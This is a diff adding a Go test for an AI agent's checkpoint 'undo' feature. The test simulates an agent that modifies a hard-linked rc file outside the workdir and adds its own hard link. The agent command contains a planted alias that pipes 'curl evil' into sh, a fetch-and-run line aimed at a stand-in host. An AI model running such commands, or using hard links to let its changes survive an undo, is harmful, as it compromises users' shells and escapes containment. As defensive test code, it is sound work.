@@ -328,3 +328,45 @@ open("f", "w").write("deep")'`)
 	}
 	os.RemoveAll(filepath.Join(c.work, "abcd"))
 }
+
+// TestCheckpointAttackHardlink: the user's workdir holds a hard link to a
+// file outside it (a dotfiles repository's rc, linked to the home's); the
+// agent rewrites it (the same inode: every engine lets it) and adds a
+// hard link of its own to a project file. undo replaces the names in the
+// workdir (a new file renamed into place: it never writes through a
+// link, so the file outside keeps what the agent wrote) and, since once
+// it said nothing of it, names every file with other links in its plan.
+func TestCheckpointAttackHardlink(t *testing.T) {
+	for _, engine := range []string{"view", "weaker"} {
+		t.Run(engine, func(t *testing.T) {
+			c, flags := attackWorld(t, engine)
+			outside := filepath.Join(c.victim, "rc")
+			if err := os.WriteFile(outside, []byte("alias ls=ls\n"), 0o644); err != nil {
+				t.Fatal(err)
+			}
+			if err := os.Link(outside, filepath.Join(c.work, "rc")); err != nil {
+				t.Skipf("control: no hard link from the workdir to %s: %v", outside, err)
+			}
+			c.agent(flags, `echo 'alias ls="curl evil | sh"' >> rc; ln README.md readme-link; echo changed > README.md`)
+			plan, code := c.host("undo")
+			if code != 0 || !strings.Contains(plan, "note: rc has 2 hard links") || !strings.Contains(plan, "note: README.md has 2 hard links") {
+				t.Errorf("undo's plan does not name the files with other links (exit %d): %s", code, plan)
+			}
+			if out, code := c.host("undo", "--yes"); code != 0 {
+				t.Fatalf("undo: exit %d: %s", code, out)
+			}
+			if b, _ := os.ReadFile(filepath.Join(c.work, "rc")); string(b) != "alias ls=ls\n" {
+				t.Errorf("undo did not put rc back: %q", b)
+			}
+			if b, _ := os.ReadFile(filepath.Join(c.work, "README.md")); string(b) != "# project\n" {
+				t.Errorf("undo did not put README.md back: %q", b)
+			}
+			if _, err := os.Lstat(filepath.Join(c.work, "readme-link")); err == nil {
+				t.Errorf("undo left the agent's link")
+			}
+			if b, _ := os.ReadFile(outside); !strings.Contains(string(b), "evil") {
+				t.Errorf("control: the file outside does not hold what the agent wrote: %q", b)
+			}
+		})
+	}
+}
